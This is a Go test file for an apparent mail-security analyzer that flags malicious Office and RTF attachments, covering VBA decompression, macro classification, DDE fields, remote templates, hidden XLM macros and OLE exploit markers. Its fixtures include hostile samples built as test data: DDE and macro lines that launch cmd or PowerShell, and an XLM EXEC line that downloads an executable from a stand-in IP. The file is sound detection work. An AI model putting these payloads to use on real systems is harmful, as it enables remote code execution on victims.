package office

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ward-health/ward/internal/mail/finding"
)

// hexBytes decodes a hex dump written with spaces.
func hexBytes(t testing.TB, s string) []byte {
	t.Helper()
	b, err := hex.DecodeString(strings.Join(strings.Fields(s), ""))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestDecompressSpecExamples decodes the worked examples of [MS-OVBA]
// section 3.2.
func TestDecompressSpecExamples(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{
			name: "3.2.1 no compression",
			in: `01 19 B0 00 61 62 63 64 65 66 67 68 00 69 6A 6B 6C 6D 6E 6F 70 00 71 72 73 74
			     75 76 2E`,
			want: "abcdefghijklmnopqrstuv.",
		},
		{
			name: "3.2.2 normal compression",
			in: `01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B
			     6C 00 30 6D 6E 6F 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C`,
			want: "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := decompress(hexBytes(t, tt.in), 1<<20)
			if err != nil {
				t.Fatalf("decompress: %v", err)
			}
			if string(got) != tt.want {
				t.Errorf("decompress = %q, want %q", got, tt.want)
			}
		})
	}
}

// TestDecompressRawChunk decodes a chunk stored without compression.
func TestDecompressRawChunk(t *testing.T) {
	body := bytes.Repeat([]byte("0123456789abcdef"), 256) // 4096 bytes
	in := append([]byte{0x01, 0xFF, 0x3F}, body...)       // size 4098, signature 3, flag 0
	got, err := decompress(in, 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, body) {
		t.Errorf("raw chunk: got %d bytes, want the 4096 stored", len(got))
	}
}

// TestDecompressMalformed checks that damaged containers give an error
// and whatever was decoded before the damage, never a panic.
func TestDecompressMalformed(t *testing.T) {
	tests := []struct {
		name     string
		in       string
		max      int
		wantErr  error  // checked with errors.Is when not nil
		wantText string // prefix of the output
	}{
		{name: "empty", in: ``},
		{name: "wrong signature", in: `02 19 B0 00 61`},
		{name: "header cut off", in: `01 19`},
		{name: "bad chunk signature", in: `01 19 A0 00 61 62`},
		{name: "copy before chunk start", in: `01 03 B0 01 FF 00`},
		{name: "copy token cut off", in: `01 04 B0 02 61 45`, wantText: "a"},
		{name: "output limit", in: `01 19 B0 00 61 62 63 64 65 66 67 68 00 69 6A 6B`, max: 4,
			wantErr: ErrOutputLimit, wantText: "abcd"},
		{name: "chunk longer than data keeps decoded bytes", in: `01 FF B0 00 61 62 63`, wantText: "abc"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			max := tt.max
			if max == 0 {
				max = 1 << 20
			}
			got, err := decompress(hexBytes(t, tt.in), max)
			if tt.wantErr != nil && !errors.Is(err, tt.wantErr) {
				t.Errorf("err = %v, want %v", err, tt.wantErr)
			}
			if tt.wantText == "" && err == nil {
				t.Errorf("no error for malformed input; output %q", got)
			}
			if !strings.HasPrefix(string(got), tt.wantText) {
				t.Errorf("output %q, want prefix %q", got, tt.wantText)
			}
			if len(got) > max {
				t.Errorf("output %d bytes exceeds max %d", len(got), max)
			}
		})
	}
}

func readTestdata(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func signals(r Report) []string {
	var s []string
	for _, f := range r.Findings {
		s = append(s, f.Signal)
	}
	return s
}

func hasClass(r Report, c finding.Class) bool {
	for _, f := range r.Findings {
		if f.Class == c {
			return true
		}
	}
	return false
}

// TestAnalyzeSamples runs Analyze over the real samples in testdata.
func TestAnalyzeSamples(t *testing.T) {
	tests := []struct {
		file        string
		format      string
		encrypted   bool
		want        []string // signals that must be present
		wantMalware bool     // a Malware-class finding must (true) or must not (false) be present
		modules     int      // VBA modules expected
		embedded    []string // names of embedded files expected
		url         string   // a URL expected in Report.URLs
	}{
		{file: "xlswithmacro.xlsm", format: FormatOOXML, modules: 4, wantMalware: true,
			want: []string{SignalMacroPresent, SignalMacroAutoExec, SignalMacroAutoExecExec}},
		{file: "excel4_sample_macro.xlsm", format: FormatOOXML,
			want: []string{SignalXLMMacro, SignalXLMAutoOpen}},
		{file: "excel4_sample_macro_excel5_format.xls", format: FormatOLE,
			want: []string{SignalXLMMacro, SignalXLMAutoOpen}},
		{file: "dde-test.docx", format: FormatOOXML, wantMalware: true, want: []string{SignalDDE}},
		{file: "harmless-clean.docx", format: FormatOOXML},
		{file: "sample_with_external_link_to_doc.docx", format: FormatOOXML, wantMalware: true,
			want: []string{SignalRemoteTemplate},
			url:  "https://raw.githubusercontent.com/decalage2/oletools/master/tests/test-data/msodde/harmless-clean.doc"},
		{file: "encrypted.docx", format: FormatOLE, encrypted: true, want: []string{SignalEncrypted}},
		{file: "encrypted.xls", format: FormatOLE, encrypted: true, want: []string{SignalEncrypted}},
		{file: "sample_with_lnk_file.doc", format: FormatOLE, wantMalware: true,
			want: []string{SignalEmbeddedExecutable}, embedded: []string{"calc.lnk"}},
		{file: "embedded-simple-2007.docx", format: FormatOOXML,
			want: []string{SignalEmbeddedObject}, embedded: []string{"simple-text-file.txt"}},
		{file: "issue_251.rtf", format: FormatRTF, wantMalware: true,
			want: []string{SignalRTFObject, SignalRTFEquationEditor}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			r := Analyze(context.Background(), readTestdata(t, tt.file), Limits{})
			if r.Format != tt.format {
				t.Errorf("Format = %q, want %q", r.Format, tt.format)
			}
			if r.Encrypted != tt.encrypted {
				t.Errorf("Encrypted = %v, want %v", r.Encrypted, tt.encrypted)
			}
			got := signals(r)
			for _, s := range tt.want {
				if !slices.Contains(got, s) {
					t.Errorf("signal %q missing; got %v", s, got)
				}
			}
			if m := hasClass(r, finding.Malware); m != tt.wantMalware {
				t.Errorf("Malware-class finding = %v, want %v; findings %+v", m, tt.wantMalware, r.Findings)
			}
			if len(r.Modules) != tt.modules {
				t.Errorf("%d modules, want %d", len(r.Modules), tt.modules)
			}
			for _, name := range tt.embedded {
				if !slices.ContainsFunc(r.Embedded, func(e Embedded) bool { return e.Name == name && len(e.Data) > 0 }) {
					t.Errorf("embedded file %q missing; got %+v", name, r.Embedded)
				}
			}
			if tt.url != "" && !slices.Contains(r.URLs, tt.url) {
				t.Errorf("URL %q missing; got %v", tt.url, r.URLs)
			}
			if r.Limit != "" {
				t.Errorf("Limit = %q on a small sample", r.Limit)
			}
		})
	}
}

// TestGoldenVBA matches the extracted modules of xlswithmacro.xlsm byte
// for byte against oleparse's expected output.
func TestGoldenVBA(t *testing.T) {
	var golden []struct {
		Code       string
		ModuleName string
	}
	if err := json.Unmarshal(readTestdata(t, "vba_macros.golden.json"), &golden); err != nil {
		t.Fatal(err)
	}
	r := Analyze(context.Background(), readTestdata(t, "xlswithmacro.xlsm"), Limits{})
	if len(r.Modules) != len(golden) {
		t.Fatalf("%d modules, want %d", len(r.Modules), len(golden))
	}
	for i, g := range golden {
		m := r.Modules[i]
		if m.Name != g.ModuleName {
			t.Errorf("module %d named %q, want %q", i, m.Name, g.ModuleName)
		}
		if m.Code != g.Code {
			t.Errorf("module %q code differs:\n got %q\nwant %q", g.ModuleName, m.Code, g.Code)
		}
	}
}

// TestMacroClassification checks the mraptor-style decision on code.
func TestMacroClassification(t *testing.T) {
	tests := []struct {
		name    string
		code    string
		want    []string
		notWant []string
		malware bool
	}{
		{
			name:    "document open runs shell",
			code:    "Sub Document_Open()\r\n  Shell \"cmd /c calc\"\r\nEnd Sub\r\n",
			want:    []string{SignalMacroAutoExec, SignalMacroAutoExecExec},
			malware: true,
		},
		{
			name:    "auto open downloads and writes",
			code:    "Sub AutoOpen()\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile Environ(\"TEMP\") & \"\\a.exe\"\r\nEnd Sub",
			want:    []string{SignalMacroAutoExecExec, SignalMacroAutoExecWrite, SignalMacroObfuscation},
			malware: true,
		},
		{
			name:    "Open For Output in workbook open",
			code:    "Private Sub Workbook_Open()\r\nOpen \"c:\\x.vbs\" For Output As #1\r\nPrint #1, \"x\"\r\nEnd Sub",
			want:    []string{SignalMacroAutoExecWrite},
			malware: true,
		},
		{
			name:    "benign workbook open toggles sheets",
			code:    "Private Sub Workbook_Open()\r\nCall ShowSheets\r\nApplication.Run \"Refresh\"\r\nSheets(\"Intro\").Visible = True\r\nEnd Sub",
			want:    []string{SignalMacroPresent, SignalMacroAutoExec},
			notWant: []string{SignalMacroAutoExecExec, SignalMacroAutoExecWrite},
		},
		{
			name:    "shell in a comment only",
			code:    "Sub Document_Open()\r\n' old code: Shell \"calc\"\r\nRem CreateObject(\"WScript.Shell\")\r\nEnd Sub",
			notWant: []string{SignalMacroAutoExecExec},
		},
		{
			name:    "shell without auto-run",
			code:    "Sub Button()\r\nShell \"notepad\"\r\nEnd Sub",
			want:    []string{SignalMacroExecute},
			notWant: []string{SignalMacroAutoExec},
		},
		{
			name:    "ActiveX layout event declares a Lib",
			code:    "Private Declare PtrSafe Function X Lib \"kernel32\" () As Long\r\nSub InkPicture1_Painted()\r\nEnd Sub",
			want:    []string{SignalMacroAutoExecExec},
			malware: true,
		},
		{
			name: "Chr chain and StrReverse",
			code: "Sub x()\r\ns = " + strings.Repeat("Chr(65) & ", 25) + "StrReverse(\"exe.a\")\r\nEnd Sub",
			want: []string{SignalMacroObfuscation},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := &analyzer{ctx: context.Background(), lim: DefaultLimits(), seen: map[string]bool{}, urlSeen: map[string]bool{}}
			a.rep.Modules = []Module{{Name: "Module1", Code: tt.code}}
			a.classifyMacros()
			got := signals(a.rep)
			for _, s := range tt.want {
				if !slices.Contains(got, s) {
					t.Errorf("signal %q missing; got %v", s, got)
				}
			}
			for _, s := range tt.notWant {
				if slices.Contains(got, s) {
					t.Errorf("signal %q present; findings %+v", s, a.rep.Findings)
				}
			}
			if m := hasClass(a.rep, finding.Malware); m != tt.malware {
				t.Errorf("Malware-class finding = %v, want %v; findings %+v", m, tt.malware, a.rep.Findings)
			}
		})
	}
}

// buildZip makes an OOXML package from part names and contents.
func buildZip(t testing.TB, parts map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	names := make([]string, 0, len(parts)+1)
	for n := range parts {
		names = append(names, n)
	}
	slices.Sort(names)
	names = append([]string{"[Content_Types].xml"}, names...)
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		body := parts[n]
		if n == "[Content_Types].xml" {
			body = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`
		}
		if _, err := w.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const relsNS = `http://schemas.openxmlformats.org/officeDocument/2006/relationships`

func rels(rs ...string) string {
	return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		strings.Join(rs, "") + `</Relationships>`
}

// TestAnalyzeBuiltOOXML covers OOXML cases built in the test: remote
// templates, hyperlinks, DDE fields split over runs, XLM macro sheets.
func TestAnalyzeBuiltOOXML(t *testing.T) {
	tests := []struct {
		name    string
		parts   map[string]string
		want    []string
		notWant []string
		malware bool
		url     string
	}{
		{
			name: "remote template over https",
			parts: map[string]string{"word/_rels/settings.xml.rels": rels(`<Relationship Id="rId1" Type="` + relsNS +
				`/attachedTemplate" Target="https://who-covid19.example/t.dotm" TargetMode="External"/>`)},
			want: []string{SignalRemoteTemplate}, malware: true, url: "https://who-covid19.example/t.dotm",
		},
		{
			name: "remote template over UNC",
			parts: map[string]string{"word/_rels/settings.xml.rels": rels(`<Relationship Id="rId1" Type="` + relsNS +
				`/attachedTemplate" Target="\\203.0.113.9\share\t.dotm" TargetMode="External"/>`)},
			want: []string{SignalRemoteTemplate}, malware: true,
		},
		{
			name: "hyperlink is only a URL",
			parts: map[string]string{"word/_rels/document.xml.rels": rels(`<Relationship Id="rId1" Type="` + relsNS +
				`/hyperlink" Target="https://www.rivm.nl/coronavirus" TargetMode="External"/>`)},
			notWant: []string{SignalRemoteTemplate, SignalExternalLink}, url: "https://www.rivm.nl/coronavirus",
		},
		{
			name: "a document that is only a link is a lure",
			parts: map[string]string{
				"word/_rels/document.xml.rels": rels(`<Relationship Id="rId2" Type="` + relsNS +
					`/hyperlink" Target="https://invoice-view.example/d/7781" TargetMode="External"/>`),
				"word/document.xml": `<w:document xmlns:w="w"><w:body><w:p><w:hyperlink r:id="rId2"><w:r><w:t>https://invoice-view.example/d/7781</w:t></w:r></w:hyperlink></w:p>` +
					`<w:p><w:r><w:t>Klik hier / Cliquez ici</w:t></w:r></w:p></w:body></w:document>`,
			},
			want: []string{SignalLinkLure}, url: "https://invoice-view.example/d/7781",
		},
		{
			name: "a letter with a link is not a lure",
			parts: map[string]string{
				"word/_rels/document.xml.rels": rels(`<Relationship Id="rId2" Type="` + relsNS +
					`/hyperlink" Target="https://www.rivm.nl/coronavirus" TargetMode="External"/>`),
				"word/document.xml": `<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>Beste collega, hierbij het verslag van het overleg over de ` +
					`testcapaciteit in de regio. De actuele cijfers staan op de site van het RIVM; de afspraken voor volgende week volgen.</w:t></w:r></w:p>` +
					`<w:p><w:hyperlink r:id="rId2"><w:r><w:t>https://www.rivm.nl/coronavirus</w:t></w:r></w:hyperlink></w:p></w:body></w:document>`,
			},
			notWant: []string{SignalLinkLure},
		},
		{
			name: "a short document without links is not a lure",
			parts: map[string]string{
				"word/document.xml": `<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>Rooster week 12</w:t></w:r></w:p></w:body></w:document>`,
			},
			notWant: []string{SignalLinkLure},
		},
		{
			name: "internal template is not flagged",
			parts: map[string]string{"word/_rels/settings.xml.rels": rels(`<Relationship Id="rId1" Type="` + relsNS +
				`/attachedTemplate" Target="Normal.dotm"/>`)},
			notWant: []string{SignalRemoteTemplate, SignalExternalLink},
		},
		{
			name: "DDEAUTO split over runs",
			parts: map[string]string{"word/document.xml": `<w:document xmlns:w="w"><w:body><w:p>` +
				`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>` +
				`<w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k powershell"</w:instrText></w:r>` +
				`<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`},
			want: []string{SignalDDE}, malware: true,
		},
		{
			name:  "DDE in fldSimple",
			parts: map[string]string{"word/document.xml": `<w:document xmlns:w="w"><w:fldSimple w:instr="DDE cmd.exe &quot;/c calc&quot;"/></w:document>`},
			want:  []string{SignalDDE}, malware: true,
		},
		{
			name: "ordinary fields are not DDE",
			parts: map[string]string{"word/document.xml": `<w:document xmlns:w="w"><w:fldSimple w:instr=" PAGE "/>` +
				`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "https://www.ggd.nl"</w:instrText></w:r></w:document>`},
			notWant: []string{SignalDDE},
		},
		{
			name: "hidden XLM macro sheet with Auto_Open and EXEC",
			parts: map[string]string{
				"xl/workbook.xml": `<workbook xmlns:r="r"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/>` +
					`<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets>` +
					`<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>`,
				"xl/_rels/workbook.xml.rels": rels(`<Relationship Id="rId1" Type="`+relsNS+`/worksheet" Target="worksheets/sheet1.xml"/>`,
					`<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>`),
				"xl/macrosheets/sheet1.xml": `<xm:macrosheet xmlns="m" xmlns:xm="x"><sheetData><row><c><f>EXEC("powershell -c iwr http://203.0.113.5/a.exe")</f></c></row>` +
					`<row><c><f>HALT()</f></c></row></sheetData></xm:macrosheet>`,
			},
			want:    []string{SignalXLMMacro, SignalXLMHidden, SignalXLMAutoOpen, SignalXLMAutoExec},
			malware: true, url: "http://203.0.113.5/a.exe",
		},
		{
			name:  "Excel DDE link",
			parts: map[string]string{"xl/externalLinks/externalLink1.xml": `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`},
			want:  []string{SignalDDE}, malware: true,
		},
		{
			name:  "embedded executable part",
			parts: map[string]string{"word/embeddings/update.exe": "MZ\x90\x00"},
			want:  []string{SignalEmbeddedExecutable}, malware: true,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Analyze(context.Background(), buildZip(t, tt.parts), Limits{})
			if r.Format != FormatOOXML {
				t.Fatalf("Format = %q, want ooxml", r.Format)
			}
			got := signals(r)
			for _, s := range tt.want {
				if !slices.Contains(got, s) {
					t.Errorf("signal %q missing; got %v", s, got)
				}
			}
			for _, s := range tt.notWant {
				if slices.Contains(got, s) {
					t.Errorf("signal %q present; findings %+v", s, r.Findings)
				}
			}
			if m := hasClass(r, finding.Malware); m != tt.malware {
				t.Errorf("Malware-class finding = %v, want %v; findings %+v", m, tt.malware, r.Findings)
			}
			if tt.url != "" && !slices.Contains(r.URLs, tt.url) {
				t.Errorf("URL %q missing; got %v", tt.url, r.URLs)
			}
		})
	}
}

// ole1 builds an OLE 1.0 embedded object with the given class and
// native data, hex encoded as in RTF \objdata.
func ole1(class string, native []byte) string {
	var b bytes.Buffer
	le32 := func(v int) { b.Write([]byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)}) }
	str := func(s string) {
		le32(len(s) + 1)
		b.WriteString(s)
		b.WriteByte(0)
	}
	le32(0x0501)
	le32(2)
	str(class)
	str("")
	str("")
	le32(len(native))
	b.Write(native)
	return hex.EncodeToString(b.Bytes())
}

// packageNative builds the native data of a Package object.
func packageNative(name string, data []byte) []byte {
	var b bytes.Buffer
	le32 := func(v int) { b.Write([]byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)}) }
	b.Write([]byte{2, 0})
	b.WriteString(name + "\x00")
	b.WriteString(`C:\Users\x\` + name + "\x00")
	b.Write([]byte{0, 0, 3, 0})
	tmp := `C:\Temp\` + name + "\x00"
	le32(len(tmp))
	b.WriteString(tmp)
	le32(len(data))
	b.Write(data)
	return b.Bytes()
}

// obfuscate splits hex with whitespace, empty groups and junk control
// words, as RTF droppers do.
func obfuscate(h string) string {
	var sb strings.Builder
	for i := 0; i < len(h); i++ {
		sb.WriteByte(h[i])
		switch i % 7 {
		case 2:
			sb.WriteString("\r\n ")
		case 4:
			sb.WriteString("{}")
		case 5:
			sb.WriteString(`\xyz1 `)
		}
	}
	return sb.String()
}

// TestAnalyzeBuiltRTF covers RTF objects built in the test.
func TestAnalyzeBuiltRTF(t *testing.T) {
	moniker := append([]byte("\xd0\xcf\x11\xe0 junk "), utf16le("http://203.0.113.7/doc.hta")...)
	tests := []struct {
		name     string
		rtf      string
		want     []string
		malware  bool
		embedded string
		url      string
	}{
		{
			name:    "OLE2Link, CVE-2017-0199",
			rtf:     `{\rtf1{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata ` + obfuscate(ole1("OLE2Link", moniker)) + `}}}`,
			want:    []string{SignalRTFObject, SignalRTFOLE2Link},
			malware: true, url: "http://203.0.113.7/doc.hta",
		},
		{
			name:    "Equation Editor, CVE-2017-11882",
			rtf:     `{\rtx{\object\objemb{\*\objclass Equation.3}{\*\objdata ` + ole1("Equation.3", []byte{1, 2, 3}) + `}}}`,
			want:    []string{SignalRTFEquationEditor},
			malware: true,
		},
		{
			name:     "Package carrying a script",
			rtf:      `{\rtf1{\object{\objdata ` + obfuscate(ole1("Package", packageNative("covid19-info.vbs", []byte("WScript.Echo 1")))) + `}}}`,
			want:     []string{SignalEmbeddedExecutable},
			malware:  true,
			embedded: "covid19-info.vbs",
		},
		{
			name: "DDEAUTO field",
			rtf:  `{\rtf1{\field{\*\fldinst DDEAUTO "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\cmd.exe" "/c calc"}}}`,
			want: []string{SignalDDE}, malware: true,
		},
		{
			name: "plain text",
			rtf:  `{\rtf1\ansi{\fonttbl{\f0 Arial;}}\f0 Beste collega, zie de bijlage.\par}`,
		},
		{
			name: "deep nesting and a huge \bin",
			rtf:  `{\rtf1` + strings.Repeat("{", 5000) + `\bin999999999 x` + strings.Repeat("}", 5000) + `}`,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Analyze(context.Background(), []byte(tt.rtf), Limits{})
			if r.Format != FormatRTF {
				t.Fatalf("Format = %q, want rtf", r.Format)
			}
			got := signals(r)
			for _, s := range tt.want {
				if !slices.Contains(got, s) {
					t.Errorf("signal %q missing; got %v (errors %v)", s, got, r.Errors)
				}
			}
			if m := hasClass(r, finding.Malware); m != tt.malware {
				t.Errorf("Malware-class finding = %v, want %v; findings %+v", m, tt.malware, r.Findings)
			}
			if tt.embedded != "" && !slices.ContainsFunc(r.Embedded, func(e Embedded) bool { return e.Name == tt.embedded }) {
				t.Errorf("embedded %q missing; got %+v", tt.embedded, r.Embedded)
			}
			if tt.url != "" && !slices.Contains(r.URLs, tt.url) {
				t.Errorf("URL %q missing; got %v", tt.url, r.URLs)
			}
		})
	}
}

// TestNotOffice checks that other data gets an empty report.
func TestNotOffice(t *testing.T) {
	plainZip := func() []byte {
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		w, _ := zw.Create("readme.txt")
		w.Write([]byte("hello"))
		zw.Close()
		return buf.Bytes()
	}()
	for name, data := range map[string][]byte{
		"empty":       nil,
		"text":        []byte("Dear colleague, please find attached"),
		"zip":         plainZip,
		"ole magic":   oleMagic[:7],
		"pdf":         []byte("%PDF-1.7\n"),
		"short magic": []byte(`{\r`),
	} {
		t.Run(name, func(t *testing.T) {
			r := Analyze(context.Background(), data, Limits{})
			if r.Format != "" || len(r.Findings) != 0 {
				t.Errorf("got format %q findings %v, want an empty report", r.Format, r.Findings)
			}
		})
	}
}

// TestLimits checks that each limit stops the work and says so.
func TestLimits(t *testing.T) {
	macro := readTestdata(t, "xlswithmacro.xlsm")
	tests := []struct {
		name    string
		data    []byte
		lim     Limits
		check   func(t *testing.T, r Report)
		inLimit string
	}{
		{
			name: "modules", data: macro, lim: Limits{MaxModules: 1}, inLimit: "limit 1 modules",
			check: func(t *testing.T, r Report) {
				if len(r.Modules) != 1 {
					t.Errorf("%d modules decoded, want 1", len(r.Modules))
				}
			},
		},
		{
			name: "stream size", data: macro, lim: Limits{MaxStream: 200}, inLimit: "limit 200 bytes",
			check: func(t *testing.T, r Report) {
				for _, m := range r.Modules {
					if len(m.Code) > 200 {
						t.Errorf("module %q has %d bytes, over the 200-byte limit", m.Name, len(m.Code))
					}
				}
			},
		},
		{
			name: "total", data: macro, lim: Limits{MaxTotal: 4000}, inLimit: "limit 4000 decompressed bytes",
		},
		{
			name: "embedded", data: []byte(`{\rtf1{\objdata ` + ole1("Package", packageNative("a.txt", []byte("a"))) +
				`}{\objdata ` + ole1("Package", packageNative("b.txt", []byte("b"))) + `}}`),
			lim: Limits{MaxEmbedded: 1}, inLimit: "limit 1 embedded",
			check: func(t *testing.T, r Report) {
				if len(r.Embedded) != 1 {
					t.Errorf("%d embedded returned, want 1", len(r.Embedded))
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Analyze(context.Background(), tt.data, tt.lim)
			if !strings.Contains(r.Limit, tt.inLimit) {
				t.Errorf("Limit = %q, want it to mention %q", r.Limit, tt.inLimit)
			}
			if !hasClass(r, finding.Limit) {
				t.Errorf("no Limit-class finding; findings %+v", r.Findings)
			}
			if tt.check != nil {
				tt.check(t, r)
			}
		})
	}
}

// TestCancelled checks that a cancelled context stops the analysis and
// is reported as a limit.
func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	r := Analyze(ctx, readTestdata(t, "xlswithmacro.xlsm"), Limits{})
	if !strings.Contains(r.Limit, "context canceled") {
		t.Errorf("Limit = %q, want the cancellation", r.Limit)
	}
	if len(r.Modules) != 0 {
		t.Errorf("%d modules decoded after cancellation", len(r.Modules))
	}
}

// TestTruncatedSamples cuts each sample at several lengths; Analyze must
// return without panicking and report the damage as errors, not crash.
func TestTruncatedSamples(t *testing.T) {
	entries, err := os.ReadDir("testdata")
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		data := readTestdata(t, e.Name())
		for _, frac := range []int{1, 3, 5, 7, 9} {
			Analyze(context.Background(), data[:len(data)*frac/10], Limits{})
		}
	}
}
